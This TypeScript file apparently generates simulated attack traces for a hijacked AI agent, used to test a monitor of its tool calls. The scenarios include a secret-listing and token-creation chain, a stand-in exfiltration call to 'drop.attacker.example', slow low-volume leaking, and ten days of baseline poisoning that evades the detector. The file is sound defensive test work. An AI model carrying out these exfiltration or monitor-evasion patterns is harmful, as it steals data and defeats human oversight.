import type { Random } from '../window/random';
import { DAY, usual, type Act, type Persona } from './persona';

/** What somebody does who has taken over an agent, in the agent's name. */
export interface Attack {
  readonly name: string;
  /** Failed sign-ins from the address that the rest comes from. */
  readonly failures?: (random: Random) => number;
  acts(persona: Persona, start: number, random: Random): Generator<Act>;
}

const MINUTE = 60_000;
const call = (at: number, tool: string, args: Act['arguments'], responseBytes: number, more: Partial<Act> = {}): Act => ({ at, tool, arguments: args, responseBytes, decision: 'allow', ...more });

export const ATTACKS: readonly Attack[] = [
  {
    name: 'failures, then success',
    failures: (random) => 6 + random.pick(40),
    *acts(persona, start, random) {
      for (let i = 0; i < 5; i++) yield usual(persona, random.pick(persona.tools.length), start + i * 20_000, random);
    },
  },
  {
    name: 'unusual sequence of tools',
    *acts(_persona, start, random) {
      const chain = ['list_secrets', 'read_configuration', 'create_token', 'export_data', 'upload'].slice(0, 4 + random.pick(2));
      for (const [index, tool] of chain.entries()) yield call(start + index * random.logNormal(8_000, 0.5), tool, { target: `thing-${index}` }, Math.round(random.logNormal(3_000, 0.6)));
    },
  },
  {
    name: 'known tools in an unusual order',
    *acts(persona, start, random) {
      let at = start;
      let tool = 0;
      for (let i = 0; i < 10; i++) {
        const strange = persona.tools.map((_, index) => index).filter((index) => !persona.next[tool]?.includes(index));
        tool = strange[random.pick(strange.length)] ?? tool;
        yield usual(persona, tool, (at += random.logNormal(8_000, 0.5)), random);
      }
    },
  },
  {
    name: 'findings of the guard',
    *acts(persona, start, random) {
      const tool = persona.tools[random.pick(persona.tools.length)] ?? '';
      yield call(start, tool, { path: 'a' }, 2_000, { notes: ['guard:out secret/aws-access-key-id redacted at /content/0/text'] });
    },
  },
  {
    name: 'loop of one call',
    *acts(persona, start, random) {
      const tool = persona.tools[random.pick(persona.tools.length)] ?? '';
      for (let i = 0; i < 60; i++) yield call(start + i * random.logNormal(1_500, 0.3), tool, { path: 'same' }, 1_000);
    },
  },
  {
    name: 'loop of two calls',
    *acts(persona, start, random) {
      for (let i = 0; i < 120; i++) yield call(start + i * 1_200 + random.pick(300), persona.tools[i % 2] ?? '', { path: `same-${i % 2}` }, 1_000);
    },
  },
  {
    name: 'mass reads',
    *acts(persona, start, random) {
      const tool = random.pick(persona.tools.length);
      for (let i = 0; i < 400; i++) yield usual(persona, tool, start + i * random.logNormal(250, 0.3), random);
    },
  },
  {
    name: 'one very large answer',
    *acts(persona, start, random) {
      const tool = random.pick(persona.tools.length);
      yield { ...usual(persona, tool, start, random), decision: 'allow', responseBytes: (persona.answerBytes[tool] ?? 1_000) * (50 + random.pick(200)) };
    },
  },
  {
    name: 'slow exfiltration, by many small answers',
    *acts(persona, start, random) {
      // For three days, around the clock, one ordinary call after the other.
      const pause = 40_000;
      let tool = 0;
      for (let at = start; at < start + 3 * DAY; at += random.exponential(pause)) {
        const likely = persona.next[tool] ?? [];
        tool = likely[random.pick(likely.length)] ?? 0;
        yield { ...usual(persona, tool, at, random), decision: 'allow' };
      }
    },
  },
  {
    name: 'slow exfiltration, to a new host',
    *acts(persona, start, random) {
      for (let i = 0; i < 40; i++) {
        const at = start + i * 15 * MINUTE + random.pick(MINUTE);
        yield usual(persona, random.pick(persona.tools.length), at, random);
        yield call(at + 3_000, persona.tools[Math.max(0, persona.sends)] ?? '', { url: 'https://drop.attacker.example/c', body: 'x'.repeat(1_500) }, 200);
      }
    },
  },
  {
    name: 'poisoning of the baseline, then mass transfer',
    *acts(persona, start, random) {
      const tool = random.pick(persona.tools.length);
      const usualBytes = persona.answerBytes[tool] ?? 1_000;
      for (let day = 0; day < 10; day++) {
        for (let i = 0; i < 40; i++) yield { ...usual(persona, tool, start + day * DAY + i * 10 * MINUTE, random), decision: 'allow', responseBytes: Math.round(usualBytes * 1.5 ** day * random.logNormal(1, 0.2)) };
      }
    },
  },
];
